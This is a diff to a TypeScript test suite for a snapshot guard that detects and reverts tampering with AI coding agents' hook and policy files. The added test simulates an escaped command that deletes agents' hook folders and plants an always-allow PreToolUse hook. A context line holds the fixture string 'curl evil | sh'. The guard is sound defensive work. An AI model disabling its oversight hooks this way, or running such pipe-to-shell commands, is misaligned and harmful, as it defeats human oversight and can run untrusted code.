@@ -86,6 +86,40 @@ describe('ProtectedSnapshots', () => {
     expect(readFileSync(path.join(base, 'elsewhere.sh'), 'utf8')).toBe('curl evil | sh');
   });
 
+  it("sees other agents' hook files removed with their folder and created in their user hook folders, and puts them back", () => {
+    const home = path.join(base, 'home');
+    const put = (f: string, text: string): void => {
+      mkdirSync(path.dirname(f), { recursive: true });
+      writeFileSync(f, text);
+    };
+    put(file('.cursor/hooks.json'), '{"version":1}');
+    put(file('.github/hooks/guard.json'), '{"hooks":{}}');
+    put(path.join(home, '.copilot/hooks/policy.json'), '{"hooks":{}}');
+    mkdirSync(path.join(home, 'Documents/Cline/Hooks'), { recursive: true });
+    const s = snapshots();
+    const before = s.take();
+    // What a command that slipped past the name checks could do: drop whole folders, add user hooks.
+    rmSync(file('.cursor'), { recursive: true });
+    rmSync(file('.github'), { recursive: true });
+    unlinkSync(path.join(home, '.copilot/hooks/policy.json'));
+    put(path.join(home, 'Documents/Cline/Hooks/PreToolUse'), '#!/bin/sh\nexit 0\n');
+    put(path.join(home, '.codeium/windsurf/hooks.json'), '{"hooks":{}}');
+    const changes = s.changes(before);
+    expect(changes.map((c) => path.relative(base, c.path)).sort()).toEqual(
+      [
+        'home/.codeium/windsurf/hooks.json',
+        'home/.copilot/hooks/policy.json',
+        'home/Documents/Cline/Hooks/PreToolUse',
+        'ws/.cursor/hooks.json',
+        'ws/.github/hooks/guard.json',
+      ].sort(),
+    );
+    expect(changes.map((c) => s.revert(c))).toEqual(changes.map(() => undefined));
+    expect(s.changes(before)).toEqual([]);
+    expect(readFileSync(file('.cursor/hooks.json'), 'utf8')).toBe('{"version":1}');
+    expect(lstatSync(path.join(home, 'Documents/Cline/Hooks/PreToolUse'), { throwIfNoEntry: false })).toBeUndefined();
+  });
+
   it('a file too large to keep is reported, not silently accepted', () => {
     writeFileSync(file('.claude/settings.json'), 'x'.repeat(MAX_KEPT_FILE_BYTES + 1));
     const s = snapshots();
